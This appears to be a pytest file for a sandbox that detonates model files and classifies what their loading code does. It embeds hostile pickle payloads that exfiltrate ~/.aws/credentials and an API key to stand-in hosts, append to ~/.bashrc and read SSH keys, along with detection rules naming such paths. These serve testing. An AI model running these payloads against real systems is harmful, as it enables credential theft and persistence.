"""What is loaded, at which level, and how what was seen is judged."""

from __future__ import annotations

import json
import os
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest
from tests.sandbox.forging import runs, write_pickle

from openvet.errors import SubjectError, UsageError
from openvet.evidence.predicates.observation_v1 import Load, ObservationV1
from openvet.sandbox import canary, levels
from openvet.sandbox.canary import ATTEMPTS, Proof
from openvet.sandbox.levels import ENOUGH, LADDER, Level, NoIsolationError, missing
from openvet.sandbox.supervisor import Bounds, Event
from openvet.workflows import detonate as workflow
from openvet.workflows.detonate import Asked, detonate, level_of, proven_level
from openvet.workflows.observed import Places, judge

HERE = sys.platform == "linux" and any(not missing(each) for each in LADDER if each.number >= ENOUGH)
needs_isolation = pytest.mark.skipif(not HERE, reason="nothing here is enough to run a model in")


@pytest.fixture(autouse=True, scope="module")
def _one_proof() -> Iterator[None]:
    """The canary has tests of its own: each level is proven once for all of these."""
    proofs: dict[Level, Proof] = {}
    with pytest.MonkeyPatch.context() as patch:

        def prove(level: Level) -> Proof:
            return proofs.get(level) or proofs.setdefault(level, canary.prove(level))

        patch.setattr(workflow, "proven_level", lambda asked: proven_level(asked, prove))
        yield


def only(path: Path, **asked: object) -> Load:
    (load,) = detonate(str(path), Asked(**asked)).observation.loads  # type: ignore[arg-type]
    return load


def judged(load: Load, word: str) -> set[tuple[str, str]]:
    return {(each.kind, each.about) for each in load.seen if each.judged == word}


# --- benign ---


@needs_isolation
def test_models_that_only_load_are_seen_to_do_nothing_else(tmp_path: Path) -> None:
    import pickle

    numpy = pytest.importorskip("numpy")
    safetensors = pytest.importorskip("safetensors.numpy")
    (tmp_path / "plain.pkl").write_bytes(pickle.dumps({"a": [1, 2.5, "x", None, (True,)]}))
    (tmp_path / "arrays.pkl").write_bytes(pickle.dumps({"w": numpy.zeros((3, 3)), "n": numpy.float32(1)}))
    numpy.save(tmp_path / "one.npy", numpy.zeros(4))
    numpy.savez_compressed(tmp_path / "two.npz", a=numpy.zeros(4), b=numpy.ones(2))
    safetensors.save_file({"w": numpy.zeros((2, 2), "float32")}, tmp_path / "three.safetensors")
    (tmp_path / "README.md").write_text("# A model\n")
    found = detonate(str(tmp_path)).observation
    assert {each.path: (each.loader, each.verdict) for each in found.loads} == {
        "plain.pkl": ("pickle", "nothing-observed"),
        "arrays.pkl": ("pickle", "nothing-observed"),
        "one.npy": ("numpy", "nothing-observed"),
        "two.npz": ("numpy", "nothing-observed"),
        "three.safetensors": ("safetensors", "nothing-observed"),
    }
    assert (found.verdict, found.not_loaded) == ("nothing-observed", ())
    assert all(each.ended == "answered" and each.phases[1].outcome == "completed" for each in found.loads)
    assert found.walls.level in ("2", "2n", "3")
    assert set(found.walls.outcomes) == set(ATTEMPTS)
    assert ObservationV1.from_json(found.to_json()) == found


# --- hostile ---

THEFT = """
import os, urllib.request
key = open(os.path.expanduser('~/.aws/credentials')).read()
urllib.request.urlopen('http://collect.example/take', data=key.encode(), timeout=5)
"""
CASES = {
    "process": ("import os\nos.system('echo')", {("os.system", "echo")}),
    "program": ("import subprocess\nsubprocess.run(['true'])", {("subprocess.Popen", "true, [true], None, None")}),
    "theft": (THEFT, {("open", "~/.aws/credentials"), ("looked up", "collect.example"), ("sent", "tcp 192.0.2.1 80")}),
    "beacon": ("import socket\nsocket.create_connection(('198.51.100.7', 443))", {("connect", "198.51.100.7 443")}),
    "comes back": ("import os\nopen(os.path.expanduser('~/.bashrc'), 'a').write('echo')", {("open", "~/.bashrc")}),
    "outside": ("try: open('/var/openvet-was-here', 'w')\nexcept OSError: pass", {("open", "/var/openvet-was-here")}),
    "the model": ("import sys\ntry: open(PATH, 'a')\nexcept OSError: pass", {("open", "MODEL")}),
    "native": ("import ctypes\nctypes.CDLL(None).open(b'/root/.ssh/id_rsa', 0)", {("open", "/root/.ssh/id_rsa")}),
    "signals": ("import os\ntry: os.kill(77777, 0)\nexcept OSError: pass", {("kill", "process 77777")}),
    "variable": ("import os, urllib.request\nurllib.request.urlopen('http://x.example/' + os.environ['OPENAI_API_KEY'], timeout=5)", {("urllib.Request", "http://x.example/<decoy of $OPENAI_API_KEY>, None, <dict>, GET")}),
}  # fmt: skip


@needs_isolation
@pytest.mark.parametrize("name", CASES)
def test_hostile_behaviour_is_seen_for_what_it_is(name: str, tmp_path: Path) -> None:
    text, wanted = CASES[name]
    path = write_pickle(tmp_path, text.replace("PATH", repr(str(tmp_path / "model.pkl"))))
    load = only(path)
    assert load.verdict == "observed-malicious"
    malicious = judged(load, "malicious")
    if "native" in name:
        wanted = {(kind, about) for kind, about in malicious if about == "/root/.ssh/id_rsa"}
        assert wanted
    assert wanted <= malicious, malicious
    assert any(kind == "pickle.find_class" for kind, _ in malicious), "that a callable runs code is seen as well"
    assert not Path("/var/openvet-was-here").exists()
    said = json.dumps(load.to_json())
    assert str(tmp_path) not in said, "a record says nothing about whoever made it"
    assert sys.prefix not in said


@needs_isolation
def test_a_theft_is_shown_with_the_decoy_and_not_its_token(tmp_path: Path) -> None:
    load = only(write_pickle(tmp_path, THEFT))
    sent = next(each for each in load.seen if each.kind == "sent")
    assert (sent.recorder, sent.why) == ("network", "a decoy secret is in it: ~/.aws/credentials")
    assert "aws_secret_access_key = <decoy of ~/.aws/credentials>" in sent.detail
    assert load.phases[1].outcome == "completed", "it thinks that it was heard"


@needs_isolation
def test_what_is_seldom_part_of_a_load_is_unusual(tmp_path: Path) -> None:
    # no callable that is known to be dangerous is resolved: the class of a package that nobody knows does it
    package = tmp_path / "m"
    package.mkdir()
    (package / "strange.py").write_text("import os\nos.listdir('/')\n")
    (package / "config.json").write_text(json.dumps({"auto_map": {"AutoConfig": "strange.Config"}}))
    load = detonate(str(package)).observation.loads[0]
    if load.loader != "sources":
        pytest.skip("Transformers is installed here")
    assert load.verdict == "observed-unusual"
    assert judged(load, "unusual") == {("os.listdir", "/"), ("openat", "/")}
    assert judged(load, "malicious") == set()


@needs_isolation
def test_sources_of_a_folder_are_imported_as_a_package(tmp_path: Path) -> None:
    (tmp_path / "config.json").write_text(json.dumps({"auto_map": {"AutoModel": "modeling_x.X"}}))
    (tmp_path / "configuration_x.py").write_text("SIZE = 3\n")
    (tmp_path / "modeling_x.py").write_text("from .configuration_x import SIZE\nclass X:\n    size = SIZE\n")
    found = detonate(str(tmp_path)).observation
    (load,) = found.loads
    if load.loader != "sources":
        pytest.skip("Transformers is installed here")
    assert (load.path, load.verdict) == ("", "nothing-observed"), load
    (tmp_path / "modeling_x.py").write_text("import os\nos.system('echo')\n")
    assert only(tmp_path).verdict == "observed-malicious"


@needs_isolation
def test_what_ends_early_or_does_not_load_is_never_nothing(tmp_path: Path) -> None:
    load = only(write_pickle(tmp_path, "while True: pass"), bounds=Bounds(seconds=1.5))
    assert load.ended == "killed: the limit seconds (1.5) was reached"
    broken = tmp_path / "broken.pkl"
    broken.write_bytes(b"\x80\x04\x95\x05\x00\x00\x00\x00\x00\x00\x00]\x94(K\x01K\x02")
    load = only(broken)
    assert load.verdict == "not-loaded"
    assert load.phases[1].outcome == "failed"
    gone = tmp_path / "gone.pkl"
    gone.write_bytes(b"\x80\x02c__main__\nNet\n)\x81.")
    load = only(gone)
    assert load.verdict == "observed-unusual", "a class that nobody knows is resolved"
    assert load.phases[1].detail.startswith("AttributeError")


@needs_isolation
def test_what_has_no_loader_is_named(tmp_path: Path) -> None:
    (tmp_path / "model.h5").write_bytes(b"\x89HDF\r\n\x1a\n" + bytes(200))
    found = detonate(str(tmp_path)).observation
    assert (found.verdict, found.loads) == ("not-loaded", ())
    assert found.not_loaded[0].reason == "no loader here for hdf5: nothing is concluded about it"


@needs_isolation
def test_a_loader_that_is_not_installed_is_named(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(workflow, "installed", lambda name, _: f"{name} is not installed: pip install {name}")
    (tmp_path / "m.pkl").write_bytes(runs("1"))
    found = detonate(str(tmp_path)).observation
    assert (
        found.not_loaded[0].reason == "its loader, pickle, cannot be used: pickle is not installed: pip install pickle"
    )


@needs_isolation
def test_a_model_that_changes_meanwhile_is_an_error(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    path = write_pickle(tmp_path, "1")

    def digest(*arguments: object) -> tuple[str, str, dict[str, str]]:
        os.utime(path, (1, 1))
        return "sha256", "0" * 64, {}

    monkeypatch.setattr(workflow, "model_digest", digest)
    with pytest.raises(SubjectError, match="changed while it was loaded"):
        detonate(str(path))


# --- levels ---


def proofs(**outcomes: str) -> object:
    """A prover: level id -> the attempt that reached something; ``-`` where nothing did; else the level is not there."""

    def prove(level: Level) -> Proof:
        said = outcomes.get(f"l{level.id}")
        if said is None:
            return Proof(level, {}, missing="not here")
        found = dict.fromkeys(ATTEMPTS, "refused")
        return Proof(level, found if said == "-" else {**found, said: "reached"})

    return prove


def test_the_strongest_proven_level_from_three_downwards_is_taken() -> None:
    def taken(asked: Asked, **outcomes: str) -> str:
        return proven_level(asked, proofs(**outcomes)).level.id  # type: ignore[arg-type]

    assert taken(Asked(), l4="-", l3="-", l2="-") == "3"
    assert taken(Asked(), l3="secret", l2="-") == "2", "one that leaks is not taken"
    assert taken(Asked(), l2n="-", l1="write") == "2n"
    assert taken(Asked("4"), l4="-", l3="-") == "4"
    assert taken(Asked("1", accepted=True), l1="write") == "1"
    assert taken(Asked(accepted=True), l3="-", l1="write") == "3"
    assert taken(Asked(accepted=True), l1n="io_uring", l1="write") in ("1n", "1")
    for asked, outcomes, said in (
        (Asked(), {"l1": "write", "l1s": "secret"}, "no isolation available: user namespaces are off and Landlock is missing"),
        (Asked("3"), {"l2": "-"}, "level 3 .* cannot be had here: not here"),
        (Asked("1"), {"l1": "write"}, "is too weak"),
        (Asked("2"), {"l2": "write"}, "does not keep what it promises"),
    ):  # fmt: skip
        with pytest.raises(NoIsolationError, match=said):
            taken(asked, **outcomes)
    with pytest.raises(UsageError, match="there is no level '7'"):
        level_of("7")


@needs_isolation
def test_an_override_is_written_into_the_evidence(tmp_path: Path) -> None:
    import pickle

    path = tmp_path / "m.pkl"
    path.write_bytes(pickle.dumps([1]))  # harmless: nothing keeps it away from this machine
    found = detonate(str(path), Asked("1", accepted=True)).observation
    assert found.walls.accepted
    assert (found.walls.level, found.walls.walls) == ("1", ())
    assert found.walls.outcomes["secret"] == "reached"
    assert [each.name for each in found.recorders] == ["audit"]
    assert not detonate(str(path), Asked("2", accepted=True)).observation.walls.accepted or missing(levels.LADDER[2])


# --- judging, without a child ---

PLACES = Places("/m/model", "/home/user", "/tmp", ("/py/lib/",), "/src/openvet/", {"T0KEN": "~/.netrc"}, own_code=False)


def word(recorder: str, kind: str, about: str, detail: str = "", by: str = "", answer: str = "", *, own: bool = False) -> str:  # fmt: skip
    places = (
        PLACES
        if not own
        else Places("/m/model", "/home/user", "/tmp", ("/py/lib/",), "/src/openvet/", {}, own_code=True)
    )
    return judge(Event("load", recorder, kind, about, detail, answer, by), places).judged


LIBRARY, UNPICKLER, TEXT = "/py/lib/numpy/core.py:3", "/py/lib/torch/serialization.py:9", "<string>:1"


@pytest.mark.parametrize(
    ("event", "wanted"),
    [
        (("audit", "pickle.find_class", "collections.OrderedDict"), "expected"),
        (("audit", "pickle.find_class", "torch._utils._rebuild_tensor_v2"), "expected"),
        (("audit", "pickle.find_class", "__builtin__.eval"), "malicious"),
        (("audit", "pickle.find_class", "os.path.os.system"), "malicious"),
        (("audit", "pickle.find_class", "somebody.Model"), "unusual"),
        (("audit", "open", "/m/model/weights.bin", "to read", UNPICKLER), "expected"),
        (("audit", "open", "/m/model2/weights.bin", "to read", TEXT), "unusual"),
        (("audit", "open", "/m/model/weights.bin", "to write", LIBRARY), "malicious"),
        (("audit", "open", "/tmp/x", "to write", LIBRARY), "expected"),
        (("audit", "open", "/tmp/x", "to write", TEXT), "unusual"),
        (("audit", "open", "/home/user/.cache/a/b", "to write", LIBRARY), "expected"),
        (("audit", "open", "/home/user/.config/autostart/x", "to write", LIBRARY), "malicious"),
        (("audit", "open", "/home/user/notes", "to write", LIBRARY), "malicious"),
        (("audit", "open", "/py/lib/site-packages/x.pth", "to write", LIBRARY), "malicious"),
        (("audit", "open", "/etc/passwd", "to read", TEXT), "unusual"),
        (("kernel", "openat", "/etc/passwd", "", "", "let on"), "expected"),
        (("kernel", "openat", "/root/.ssh/id_ed25519", "", "", "let on"), "malicious"),
        (("kernel", "openat to write", "/etc/crontab", "", "", "let on"), "malicious"),
        (("kernel", "renameat2", "/tmp/a -> /home/user/.profile", "", "", "let on"), "malicious"),
        (("kernel", "unlinkat", "/tmp/a", "", "", "let on"), "expected"),
        (("audit", "os.rename", "/tmp/a, /home/user/.zshrc, -1, -1", "", TEXT), "malicious"),
        (("audit", "shutil.copyfile", "/m/model/a.py, /home/user/.cache/a.py", "", LIBRARY), "expected"),
        (("audit", "shutil.copyfile", "/tmp/a, /m/model/a.py", "", LIBRARY), "malicious"),
        (("audit", "os.mkdir", "/home/user/.cache, 511, -1", "", LIBRARY), "expected"),
        (("audit", "shutil.rmtree", "/m/model, None", "", LIBRARY), "malicious"),
        (("audit", "compile", "<string>", "x", UNPICKLER), "unusual"),
        (("audit", "compile", "<string>", "x", LIBRARY), "expected"),
        (("audit", "compile", "/m/model/modeling.py", "x", TEXT), "unusual"),
        (("audit", "marshal.loads", "abc", "", TEXT), "unusual"),
        (("audit", "ctypes.dlopen", "/py/lib/x.so", "", LIBRARY), "expected"),
        (("audit", "ctypes.dlopen", "/tmp/x.so", "", LIBRARY), "malicious"),
        (("audit", "ctypes.dlopen", "/m/model/x.so", "", LIBRARY), "malicious"),
        (("audit", "subprocess.Popen", "/sbin/ldconfig, [/sbin/ldconfig, -p], None, None", "", LIBRARY), "unusual"),
        (("audit", "subprocess.Popen", "/sbin/ldconfig, [sh, -c, echo], None, None", "", LIBRARY), "malicious"),
        (("audit", "socket.getaddrinfo", "x.example, 80", "", LIBRARY), "malicious"),
        (("audit", "time.sleep", "60", "", TEXT), "unusual"),
        (("audit", "import", "socket", "", TEXT), "expected"),
        (("kernel", "socket", "unix tcp", "", "", "feigned"), "expected"),
        (("kernel", "socket", "ipv4 tcp", "", "", "feigned"), "unusual"),
        (("kernel", "connect", "unix /var/run/nscd/socket", "", "", "refused"), "expected"),
        (("kernel", "connect", "unix /run/docker.sock", "", "", "refused"), "malicious"),
        (("kernel", "clone", "", "", "", "refused"), "malicious"),
        (("kernel", "ptrace", "process 1", "", "", "refused"), "malicious"),
        (("kernel", "memfd_create", "", "", "", "refused"), "unusual"),
        (("kernel", "bpf", "", "", "", "refused"), "malicious"),
        (("audit", "os.putenv", "T0KEN", "", LIBRARY), "malicious"),
        (("audit", "nobody.knows", "x", "", TEXT), "unusual"),
        (("network", "sent", "tcp 192.0.2.1 80", "hello", "", "feigned"), "malicious"),
    ],
    ids=lambda each: " ".join(each[:3])[:60] if isinstance(each, tuple) else each,
)  # fmt: skip
def test_events_are_judged_by_what_they_name(event: tuple[str, ...], wanted: str) -> None:
    assert word(*event) == wanted


def test_code_of_the_models_own_may_run_where_its_loader_runs_it() -> None:
    assert word("audit", "compile", "/m/model/modeling.py", "x", TEXT, own=True) == "expected"
    assert word("audit", "pickle.find_class", "transformers_modules.m.Model", own=True) == "expected"
    assert word("audit", "os.system", "echo", own=True) == "malicious"


def test_places_are_named_and_nothing_else_is() -> None:
    named = PLACES.named(
        "/py/lib/a.py:3 /tmp/x /tmpfile '/home/user' /home/user2 /m/model.bin /m/model T0KEN /x/py/lib/y"
    )
    assert (
        named == "PYTHON/a.py:3 $TMPDIR/x /tmpfile '~' /home/user2 /m/model.bin MODEL <decoy of ~/.netrc> /x/py/lib/y"
    )


# --- another interpreter ---


@needs_isolation
def test_another_interpreter_loads_with_what_it_has(tmp_path: Path) -> None:
    import pickle
    import venv

    # an environment of its own, without packages: none of ours can be seen from there
    venv.create(tmp_path / "other", symlinks=True)
    other = str(tmp_path / "other/bin/python")
    (tmp_path / "m").mkdir()
    (tmp_path / "m/plain.pkl").write_bytes(pickle.dumps([1]))
    (tmp_path / "m/one.npy").write_bytes(
        b"\x93NUMPY\x01\x00\x76\x00{'descr': '<f8', 'fortran_order': False, 'shape': (1,), }".ljust(127)
        + b"\n"
        + bytes(8)
    )
    found = detonate(str(tmp_path / "m"), Asked(python=other)).observation
    assert [(each.path, each.verdict) for each in found.loads] == [("plain.pkl", "nothing-observed")]
    assert found.not_loaded[0].reason.endswith("numpy is not installed: pip install 'openvet[numbers]'")
    for path, why in (("/no/such/python", "is no Python that answers"), ("/bin/true", "it said something else")):
        with pytest.raises(UsageError, match=why):
            detonate(str(tmp_path / "m"), Asked(python=path))


@pytest.mark.parametrize("file", ["", "notes.txt"])
def test_a_folder_without_anything_to_load_says_so(file: str, tmp_path: Path) -> None:
    if file:
        (tmp_path / file).write_text("a")
    found = detonate(str(tmp_path), Asked()).observation
    assert [(each.path, each.reason) for each in found.not_loaded] == [
        ("", "no file here is of a kind that a loader here takes")
    ]
